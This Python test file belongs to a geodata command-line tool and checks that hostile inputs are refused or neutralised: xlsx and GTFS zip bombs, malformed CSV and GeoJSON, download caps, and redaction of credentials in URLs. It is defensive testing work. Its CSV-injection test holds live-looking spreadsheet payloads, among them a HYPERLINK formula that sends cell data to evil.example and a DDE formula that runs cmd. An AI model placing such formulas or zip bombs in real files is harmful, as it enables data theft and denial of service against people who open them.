"""Hostile and broken inputs: each is a real file written in tmp_path, fed to the real CLI
(or function), and must end in `error:` lines and exit code 2 (or a DataError), never a
traceback, a MemoryError or a leaked secret.

Covers: memory bombs (xlsx cell at XFD1048576, a huge cell in a small xlsx, a GTFS zip
bomb, too many rows/columns/bytes), broken offer files (GeoJSON features that are not
objects, ``features`` as an object, empty CSV, a non-zip .xlsx, a row with extra values),
CSV formula injection, credentials in GTFS URLs, download size caps, and crash safety of
``network build`` (SIGKILL right after its first output file appears).
"""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import openpyxl
import pytest

from geo._io import (
    BuildManifest,
    atomic_path,
    clean_stray_tmp,
    guard_zip,
    is_http_url,
    neutralise_cell,
    redact_url,
)
from geo.cli import main
from geo.errors import DataError, DownloadError, LimitError
from geo.networks.network import load_network
from geo.settings import Settings
from geo.sources import download, gtfs
from geo.sources.offers import read_offer_file

Run = Callable[..., tuple[int, str, str]]
HEADER = "Name;Kategorie;Breite;Länge"
GOOD = "Kita Sonnenschein;kita;51.5339;9.9356"
VPE = Path("germany/gtfs/vpe_enzkreis_2025.zip")


@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        tmp_path: Path) -> Run:
    """Run the real CLI entry point in-process; returns (exit code, stdout, stderr)."""
    monkeypatch.setenv("ERREICHBAR_WORK_DIR", str(tmp_path / "work"))

    def cli(*args: str) -> tuple[int, str, str]:
        monkeypatch.setattr(sys, "argv", ["erreichbar", *map(str, args)])
        with pytest.raises(SystemExit) as stop:
            main()
        out, err = capsys.readouterr()
        return int(stop.value.code or 0), out, err

    return cli


def _refused(result: tuple[int, str, str], *messages: str) -> list[str]:
    """Assert exit code 2, only `error:` lines, no traceback, and every message; the lines."""
    code, _, err = result
    assert code == 2, err
    assert "Traceback" not in err and "MemoryError" not in err
    lines = [line for line in err.splitlines() if line.startswith("error: ")]
    assert lines, err
    for message in messages:
        assert message in err, err
    return lines


# --------------------------------------------------------------------------- xlsx


def _rewrite_sheet(src: Path, dst: Path, edit: Callable[[bytes], bytes]) -> Path:
    """Copy an openpyxl workbook, passing its sheet XML through ``edit``."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item)
            zout.writestr(item, edit(data) if item.filename.endswith("sheet1.xml") else data)
    return dst


def _offer_book(path: Path, rows: list[list[object]]) -> Path:
    book = openpyxl.Workbook()
    book.active.append(["Name", "Kategorie", "Breite", "Länge"])
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def test_xlsx_cell_at_xfd1048576_is_refused_before_loading(run: Run, tmp_path: Path) -> None:
    """The 4.7 kB workbook whose only cell is XFD1048576 (pandas: 7.7 GB, MemoryError)."""
    book = openpyxl.Workbook()
    book.active["XFD1048576"] = "x"
    path = tmp_path / "bomb.xlsx"
    book.save(path)
    assert path.stat().st_size < 10_000
    _refused(run("layers", "check-offers", path),
             "reaches row 1,048,576 and column 16,384 (cell XFD1048576)",
             "limits.offer_max_rows")


def test_xlsx_with_a_lying_dimension_is_stopped_while_streaming(run: Run,
                                                                tmp_path: Path) -> None:
    """Dimension says A1:D2, yet a stray cell sits at XFD1048576: the row cap stops it."""
    stray = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    good = _offer_book(tmp_path / "good.xlsx", [["Kita A", "kita", 51.53, 9.93]])
    path = _rewrite_sheet(good, tmp_path / "lying.xlsx",
                          lambda xml: xml.replace(b"</sheetData>", stray + b"</sheetData>"))
    assert b'ref="A1:D2"' in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    _refused(run("layers", "check-offers", path), "more than 200,000 data rows")


def test_xlsx_holding_a_huge_cell_is_a_zip_bomb(run: Run, tmp_path: Path) -> None:
    """A 150 MB cell packed into a few hundred kB (ratio ≈ 1000 : 1) is never unpacked."""
    good = _offer_book(tmp_path / "good.xlsx", [["Kita A", "kita", 51.53, 9.93]])
    path = tmp_path / "huge_cell.xlsx"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED,
                                                       compresslevel=9) as zout:
        for item in zin.infolist():
            if not item.filename.endswith("sheet1.xml"):
                zout.writestr(item, zin.read(item))
                continue
            head, _, tail = zin.read(item).partition(b"<t>Kita A</t>")
            with zout.open(item.filename, "w", force_zip64=True) as out:
                out.write(head + b"<t>")
                for _ in range(150):
                    out.write(b"A" * (1 << 20))
                out.write(b"</t>" + tail)
    assert path.stat().st_size < 1_000_000
    _refused(run("layers", "check-offers", path), "xl/worksheets/sheet1.xml",
             "a zip bomb?", "huge_cell.xlsx")


def test_xlsx_long_cell_is_that_rows_error_and_reading_goes_on(run: Run,
                                                              tmp_path: Path) -> None:
    path = _offer_book(tmp_path / "long.xlsx", [
        ["Kita A", "kita", 51.53, 9.93],
        ["B" * 20_000, "kita", 51.53, 9.93],
        ["Kita C", "kindergartn", 51.53, 9.93],
    ])
    lines = _refused(run("layers", "check-offers", path), "2 of 3 rows are bad")
    assert "error: row 3, field 'Name': is 20,000 characters long, more than the 10,000 " \
           "allowed" in lines
    assert any(line.startswith("error: row 4, field 'category': unknown category")
               for line in lines)


def test_non_zip_xlsx_is_one_error_line(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "offers.xlsx"
    path.write_text(HEADER + "\n" + GOOD + "\n", "utf-8")
    _refused(run("layers", "check-offers", path), "not a readable Excel file (not a zip archive")


def test_xlsx_damaged_sheet_xml_is_one_error_line(run: Run, tmp_path: Path) -> None:
    good = _offer_book(tmp_path / "good.xlsx", [["Kita A", "kita", 51.53, 9.93]])
    path = _rewrite_sheet(good, tmp_path / "damaged.xlsx", lambda xml: xml[: len(xml) // 2])
    code, _, err = run("layers", "check-offers", path)
    assert code == 2 and err.startswith("error: ") and "Traceback" not in err


# --------------------------------------------------------------------------- CSV


def test_empty_csv_is_one_error_line(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "empty.csv"
    path.write_bytes(b"")
    _refused(run("layers", "check-offers", path), "the file is empty (no header row)")


def test_csv_not_utf8_names_the_line(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes(f"Name;Kategorie;Breite;Laenge\n{GOOD}\nKita M\xfchle;kita;51.53;9.93\n"
                     .encode("latin-1"))
    _refused(run("layers", "check-offers", path), "line 3, byte 7 (b'\\xfc') is not UTF-8 "
                                                  "text; save the file as 'CSV UTF-8'")


def test_csv_row_with_extra_values_is_that_rows_error(run: Run, tmp_path: Path) -> None:
    """One row with extra columns no longer aborts the check: every row is reported."""
    path = tmp_path / "extra.csv"
    path.write_text(f"{HEADER}\n{GOOD}\nKita B;kita;51.53;9.93;oops;more\nKita C;kita;51,53\n"
                    "Kita D;kita;51.53;9.93;;\n", "utf-8")
    lines = _refused(run("layers", "check-offers", path), "2 of 4 rows are bad")
    assert "error: row 3, field '-': has 6 values but the header has 4 columns (a separator " \
           "inside an unquoted value?)" in lines
    assert "error: row 4, field 'lon': missing value" in lines  # short row: padded, checked
    assert not any("row 5" in line for line in lines)  # trailing empty fields are fine


def test_csv_limits_on_bytes_rows_columns_and_cells(run: Run, tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    big = tmp_path / "big.csv"
    big.write_text(HEADER + "\n", "utf-8")
    os.truncate(big, 50_000_001)  # sparse: the size is checked before anything is read
    _refused(run("layers", "check-offers", big), "50,000,001 bytes, more than the 50,000,000",
             "limits.offer_file_max_bytes")
    wide = tmp_path / "wide.csv"
    wide.write_text(HEADER + ";" + ";".join(f"x{i}" for i in range(300)) + "\n" + GOOD + "\n")
    _refused(run("layers", "check-offers", wide), "the header has 304 columns, more than the "
                                                  "200 allowed")
    long = tmp_path / "long.csv"
    long.write_text(f"{HEADER}\n{GOOD}\nKita B;kita;51.53;9.93{'9' * 10_001}\n"
                    "Kita C;krippe;51.53;9.93\n", "utf-8")
    lines = _refused(run("layers", "check-offers", long), "1 of 3 rows are bad")
    assert lines[1] == "error: row 3, field 'Länge': is 10,005 characters long, more than " \
                       "the 10,000 allowed"
    monkeypatch.setenv("ERREICHBAR_LIMITS__OFFER_MAX_ROWS", "50")
    many = tmp_path / "many.csv"
    many.write_text(HEADER + "\n" + "\n".join([GOOD] * 51) + "\n", "utf-8")
    _refused(run("layers", "check-offers", many), "more than 50 data rows")


def test_csv_export_neutralises_formulas(run: Run, tmp_path: Path) -> None:
    """`check-offers --out x.csv` never writes a cell a spreadsheet would run."""
    hostile = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Kita")', "traeger": "@SUM(1+1)",
               "contact": "=cmd|' /C calc'!A0", "street": "+49 Straße", "housenumber": "-2+3"}
    path = tmp_path / "in.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow([*hostile, "category", "lat", "lon"])
        writer.writerow([*hostile.values(), "kita", "51.5339", "9.9356"])
    out = tmp_path / "out.csv"
    code, _, err = run("layers", "check-offers", path, "--out", out)
    assert code == 0, err
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for field, value in hostile.items():
        assert rows[0][field] == "'" + value
    for cell in rows[0].values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    back = read_offer_file(out, Settings()).iloc[0]
    assert {k: back[k] for k in hostile} == hostile  # the apostrophe is read away again
    assert [neutralise_cell(c + "x") for c in "=+-@\t\r"] == [f"'{c}x" for c in "=+-@\t\r"]
    assert neutralise_cell("Kita") == "Kita" and neutralise_cell(-1.5) == -1.5


# --------------------------------------------------------------------------- GeoJSON


def _geojson(path: Path, doc: object) -> Path:
    path.write_text(json.dumps(doc), "utf-8")
    return path


def test_geojson_features_that_are_not_objects(run: Run, tmp_path: Path) -> None:
    good = {"type": "Feature", "properties": {"name": "Kita A", "category": "kita"},
            "geometry": {"type": "Point", "coordinates": [9.93, 51.53]}}
    path = _geojson(tmp_path / "odd.geojson", {"type": "FeatureCollection", "features": [
        1, "Kita", [9.93, 51.53], good, {"type": "Feature", "properties": [1, 2]},
        {"type": "Feature", "properties": {"name": "X", "category": "kita"}, "geometry": "P"},
        {"type": "Feature", "properties": {"name": "Y", "category": "kita"},
         "geometry": {"type": "Point", "coordinates": ["a", None]}}]})
    lines = _refused(run("layers", "check-offers", path), "6 of 7 features are bad")
    assert lines[1:4] == [
        "error: feature 1, field 'feature': is a JSON number, not a GeoJSON Feature object",
        "error: feature 2, field 'feature': is a JSON string, not a GeoJSON Feature object",
        "error: feature 3, field 'feature': is a JSON array, not a GeoJSON Feature object"]
    assert "error: feature 5, field 'properties': must be an object, not a JSON array" in lines
    assert "error: feature 6, field 'geometry': must be a GeoJSON Point object, not a JSON " \
           "string" in lines
    assert "error: feature 7, field 'geometry': Point coordinates must be [longitude, " \
           "latitude] numbers" in lines


@pytest.mark.parametrize("doc, message", [
    ({"type": "FeatureCollection", "features": {"a": 1}},
     "'features' must be a list of Feature objects, not a JSON object"),
    ({"type": "FeatureCollection", "features": "x"}, "not a JSON string"),
    ([1, 2], "not a GeoJSON FeatureCollection"),
])
def test_geojson_broken_collection(run: Run, tmp_path: Path, doc: object, message: str) -> None:
    _refused(run("layers", "check-offers", _geojson(tmp_path / "o.geojson", doc)), message)


def test_geojson_nested_too_deeply(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "deep.geojson"
    path.write_text("[" * 200_000 + "]" * 200_000, "utf-8")
    _refused(run("layers", "check-offers", path), "not valid GeoJSON (nested too deeply)")


# --------------------------------------------------------------------------- GTFS


def _gtfs_bomb(path: Path, mbytes: int = 150) -> Path:
    """A GTFS zip whose stop_times.txt unpacks ≈400 times its packed size."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("stops.txt", "stop_id,stop_lat,stop_lon\ns1,51.5,9.9\n")
        with z.open("stop_times.txt", "w", force_zip64=True) as f:
            f.write(b"trip_id,arrival_time,departure_time,stop_id,stop_sequence\n")
            block = b"t1,10:00:00,10:00:00,s1,1\n" * 40_000
            for _ in range(mbytes * (1 << 20) // len(block)):
                f.write(block)
    return path


def test_gtfs_zip_bomb_is_refused_before_unpacking(run: Run, tmp_path: Path) -> None:
    path = _gtfs_bomb(tmp_path / "bomb.zip")
    assert path.stat().st_size < 1_000_000
    _refused(run("gtfs", "load", path), "member 'stop_times.txt' of the GTFS zip",
             "a zip bomb?")


def test_gtfs_unpacked_size_and_member_caps(tmp_path: Path, data_dir: Path) -> None:
    small = Settings(work_dir=tmp_path, limits={"gtfs_max_unpacked_bytes": 500_000})
    with pytest.raises(LimitError, match=r"GTFS zip would unpack to 790,693 bytes, more than "
                                         r"the 500,000 allowed"):
        gtfs.load_feed(data_dir / VPE, small)
    many = tmp_path / "many.zip"
    with zipfile.ZipFile(many, "w") as z:
        for i in range(1_001):
            z.writestr(f"f{i}.txt", "")
    with pytest.raises(LimitError, match="1,001 members, more than the 1,000 allowed"):
        guard_zip(many, max_members=1_000, max_unpacked_bytes=10, max_ratio=200)


class FeedServer:
    """A recorded GTFS server (httpx.MockTransport); remembers the URLs it was asked for."""

    def __init__(self, body: bytes, status: int = 200, chunked: bool = False) -> None:
        self.body, self.status, self.chunked = body, status, chunked
        self.seen: list[str] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.seen.append(str(request.url))
        if self.chunked:  # no Content-Length: the cap must hold while streaming
            return httpx.Response(self.status, content=iter([self.body] * 4))
        return httpx.Response(self.status, content=self.body,
                              headers={"content-type": "application/zip", "etag": '"v1"'})


@pytest.fixture
def serve(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[FeedServer], None]]:
    """Route the httpx.Client that `gtfs load URL` makes to a FeedServer."""
    real = httpx.Client

    def install(server: FeedServer) -> None:
        monkeypatch.setattr(gtfs.httpx, "Client", lambda **kw: real(
            transport=httpx.MockTransport(server), **kw))

    yield install


SECRET_URL = "HTTP://feeduser:hunter2@gtfs.example.org/vpe.zip?region=bw&apikey=S3CR3T&x=1"


def test_gtfs_url_credentials_never_logged_or_stored(
        run: Run, serve: Callable[[FeedServer], None], tmp_path: Path, data_dir: Path,
        caplog: pytest.LogCaptureFixture) -> None:
    """`HTTP://` is a URL; user, password and apikey reach the server and nothing else."""
    server = FeedServer((data_dir / VPE).read_bytes())
    serve(server)
    caplog.set_level("DEBUG")
    code, out, err = run("gtfs", "load", SECRET_URL)
    assert code == 0, err
    assert json.loads(out.splitlines()[-1])["stop_times"] == 10957
    assert server.seen and "apikey=S3CR3T" in server.seen[0]  # the secret was used ...
    stored = [p.read_text("utf-8") for p in (tmp_path / "work").rglob("*.json")]
    assert len(stored) == 2  # the download cache's manifest and feed.json
    for text in [out, err, caplog.text, *stored]:  # ... and is nowhere else
        assert "hunter2" not in text and "S3CR3T" not in text and "feeduser" not in text
    assert "http://***@gtfs.example.org/vpe.zip?region=bw&apikey=***&x=1" in caplog.text
    assert "HTTP Request: GET http://***@gtfs.example.org/" in caplog.text  # httpx's own log
    feed_json = json.loads((tmp_path / "work/processed/gtfs/feed.json").read_text("utf-8"))
    assert feed_json["summary"]["source"] == redact_url(SECRET_URL)
    failed = FeedServer(b"", status=404)
    serve(failed)
    _refused(run("gtfs", "load", SECRET_URL.replace("vpe", "gone")), "HTTP 404", "apikey=***")
    assert "S3CR3T" not in caplog.text


@pytest.mark.parametrize("chunked, message", [
    (False, "the server announces 20,000 bytes, more than the 10,000 allowed"),
    (True, "more than 10,000 bytes, stopped (limits.gtfs_max_bytes)"),
])
def test_gtfs_download_size_cap(serve: Callable[[FeedServer], None], tmp_path: Path,
                                chunked: bool, message: str) -> None:
    serve(FeedServer(b"PK" + b"\0" * (19_998 if not chunked else 4_998), chunked=chunked))
    settings = Settings(work_dir=tmp_path, limits={"gtfs_max_bytes": 10_000})
    with pytest.raises(LimitError, match=message.replace("(", r"\(").replace(")", r"\)")):
        gtfs.load_feed("https://gtfs.example.org/big.zip?token=T0K3N", settings)
    assert list((tmp_path / "raw" / "gtfs").glob("*")) == []  # nothing half-written kept


def test_osm_download_size_cap_and_redaction(tmp_path: Path) -> None:
    client = httpx.Client(transport=httpx.MockTransport(
        lambda r: httpx.Response(200, content=b"x" * 5_000) if r.url.path.endswith(".pbf")
        else httpx.Response(404)))
    url = "https://osm:pw0rd@mirror.example.org/nds.osm.pbf?key=K3Y"
    with pytest.raises(LimitError, match=r"https://\*\*\*@mirror.example.org/nds.osm.pbf\?"
                                         r"key=\*\*\*: the server announces 5,000 bytes"):
        download._stream(client, client.build_request("GET", url), tmp_path / "x.pbf", 1_000)
    with pytest.raises(DownloadError) as info:
        download._stream(client, client.build_request("GET", url.replace(".pbf", ".xml")),
                         tmp_path / "x.osm", 1_000)
    assert "pw0rd" not in str(info.value) and "K3Y" not in str(info.value)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("url, safe", [
    ("https://u:p@h.example/f.zip", "https://***@h.example/f.zip"),
    (("https://h.example/f.zip?ApiKey=1&key=2&token=3&access_token=4&secret=5&password=6"
      "&sig=7&x-api-key=8&date=9"),
     ("https://h.example/f.zip?ApiKey=***&key=***&token=***&access_token=***&secret=***"
      "&password=***&sig=***&x-api-key=***&date=9")),
    ("HTTPS://h.example/f#access_token=abc&state=1",
     "https://h.example/f#access_token=***&state=1"),
    ("/data/gtfs.zip", "/data/gtfs.zip"),
])
def test_redact_url(url: str, safe: str) -> None:
    assert redact_url(url) == safe


def test_http_scheme_is_case_insensitive() -> None:
    assert is_http_url("HTTP://h.example/f.zip") and is_http_url("hTtPs://h.example/")
    assert not is_http_url("/tmp/http://x") and not is_http_url("C:/feeds/a.zip")
    assert not is_http_url("ftp://h.example/f.zip")


# --------------------------------------------------------------------------- crash safety


def test_build_manifest_trusts_only_intact_outputs(tmp_path: Path) -> None:
    out = tmp_path / "a.bin"
    out.write_bytes(b"abc")
    manifest = BuildManifest(tmp_path / "manifest.json")
    assert manifest.is_current("d1") is None
    manifest.record("d1", [out], {"n": 3})
    assert manifest.is_current("d1") == {"n": 3} and manifest.is_current(None) == {"n": 3}
    assert manifest.is_current("d2") is None  # other inputs
    out.write_bytes(b"abd")  # same size, other bytes
    assert manifest.is_current("d1") is None and manifest.is_current("d1", "size") == {"n": 3}
    out.unlink()
    assert manifest.is_current("d1") is None
    (tmp_path / "manifest.json").write_text('{"digest": "d1", "summary": {}}')  # old layout
    assert manifest.is_current("d1") is None
    manifest.invalidate()
    assert not (tmp_path / "manifest.json").exists()


def test_stray_tmp_files_are_removed(tmp_path: Path) -> None:
    keep = [tmp_path / n for n in ("walk.npz", "x.tmp", ".hidden", "notes.tmp.txt")]
    stray = [tmp_path / n for n in (".walk.npz.k3j_x9.tmp", ".feed.zip.ab12.tmp.zip")]
    for p in keep + stray:
        p.write_text("x")
    with pytest.raises(KeyboardInterrupt), atomic_path(tmp_path / "walk.npz") as tmp:
        tmp.write_text("half")
        raise KeyboardInterrupt  # even an interrupted write removes its own tmp file
    assert sorted(clean_stray_tmp(tmp_path)) == sorted(stray)
    assert sorted(tmp_path.iterdir()) == sorted(keep)


def test_stored_feed_is_checked_before_use(tmp_path: Path, data_dir: Path) -> None:
    """A torn `gtfs load` (feed.zip changed after its manifest) is never used."""
    settings = Settings(work_dir=tmp_path)
    feed = gtfs.load_feed(data_dir / VPE, settings)
    path = gtfs.store_feed(feed, settings, "enzkreis")
    stray = path.parent / ".feed.zip.zz9.tmp.zip"
    stray.write_bytes(b"PK half")
    assert gtfs.load_region_feed(settings, "enzkreis").summary()["stops"] == 490
    with open(path, "r+b") as f:
        f.truncate(path.stat().st_size // 2)
    with pytest.raises(DataError, match="incomplete or was changed after it was loaded"):
        gtfs.load_region_feed(settings, "enzkreis")
    gtfs.store_feed(feed, settings, "enzkreis")
    assert not stray.exists()
    assert gtfs.load_region_feed(settings, "enzkreis").summary()["stops"] == 490


def _build(env: dict[str, str], source: str) -> dict:
    res = subprocess.run([sys.executable, "-m", "geo.cli", "network", "build", "--source",
                          source], capture_output=True, text=True, env=env, timeout=600,
                         check=False)
    assert res.returncode == 0, res.stderr
    return json.loads(res.stdout.strip().splitlines()[-1])


@pytest.mark.slow
def test_network_build_killed_after_its_first_output_is_rebuilt(
        tmp_path: Path, data_dir: Path, settings: Settings, networks: dict) -> None:
    """The reported crash: SIGKILL right after a build replaced walk.npz left the old
    manifest in place, and the next run said "cached" over the wrong network. Here a clean
    city build is followed by a county build killed right after its walk.npz appears; the
    next city build must rebuild and give the clean walk network again. The builds share
    the session's decoded-tile cache (the tiles are not what is tested here)."""
    (tmp_path / "processed").mkdir()
    (tmp_path / "processed" / "tiles-cache").symlink_to(
        settings.work_dir / "processed" / "tiles-cache")
    env = {**os.environ, "ERREICHBAR_WORK_DIR": str(tmp_path), "ERREICHBAR_DATA_DIR":
           str(data_dir), "PYTHONPATH": os.pathsep.join(sys.path)}
    folder = tmp_path / "processed/goettingen/network"
    clean = _build(env, "city-tiles")
    assert clean["cached"] is False and clean["modes"]["walk"]["nodes"] == 69_645
    first = (folder / "walk.npz").stat().st_ino
    proc = subprocess.Popen([sys.executable, "-m", "geo.cli", "network", "build"], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        while proc.poll() is None and (folder / "walk.npz").stat().st_ino == first:
            time.sleep(0.005)
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    assert proc.returncode == -signal.SIGKILL, "the county build ended before it was killed"
    assert not (folder / "manifest.json").exists()  # invalidated before the first write
    with pytest.raises(DataError, match="not those of one finished build"):
        load_network(Settings(work_dir=tmp_path, data_dir=data_dir), "walk")  # the engine's
    again = _build(env, "city-tiles")
    assert again["cached"] is False
    assert again["modes"] == clean["modes"]
    assert not [p.name for p in folder.iterdir() if p.name.endswith((".tmp", ".tmp.zip"))]
    recorded = BuildManifest(folder / "manifest.json")  # written last, matching the files
    assert recorded.is_current(None) == {k: v for k, v in again.items()
                                         if k not in ("seconds", "cached")}
